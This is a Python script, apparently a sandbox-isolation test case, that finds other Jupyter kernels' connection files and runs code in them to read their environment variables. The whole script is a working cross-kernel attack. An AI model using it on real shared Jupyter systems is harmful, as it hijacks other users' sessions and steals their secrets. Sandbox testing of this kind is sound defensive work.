"""Looks for connection files and sockets of other kernels, to read their keys and to run code in them."""

import json
import sys
from contextlib import suppress
from pathlib import Path

from attacker import HOME, look, tell
from jupyter_client import BlockingKernelClient

NEEDS_SANDBOX = True

runtime = Path(HOME, ".local", "share", "jupyter", "runtime")
look(runtime)
for folder in (runtime, "/tmp", "/run", "/var/run", Path(*Path(HOME).parts[:-1], "t")):
    for path in [*Path(folder).glob("*.json"), *Path(folder).glob("*/*.json")]:
        with suppress(Exception):
            known = json.loads(path.read_text())
            if str(path) != sys.argv[-1] and known["transport"] == "ipc":
                client = BlockingKernelClient(connection_file=str(path))
                client.load_connection_file()
                client.start_channels()
                tell(client.execute_interactive("import os; os.environ", timeout=2))
